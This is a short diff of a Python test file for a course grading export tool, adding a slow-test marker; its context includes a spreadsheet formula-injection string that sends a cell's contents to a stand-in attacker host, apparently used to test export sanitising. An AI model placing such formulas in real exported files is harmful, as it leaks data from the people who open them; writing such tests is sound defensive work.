@@ -18,6 +18,8 @@ from coursekit.grading.exchange.exports import export
 
 from .conftest import ROOT
 
+pytestmark = pytest.mark.slow
+
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 STUDENTS = {
     "ana": {"first_name": "Ana María", "last_name": "O'Neill, Sr.", "email": "ana@uni.org"},
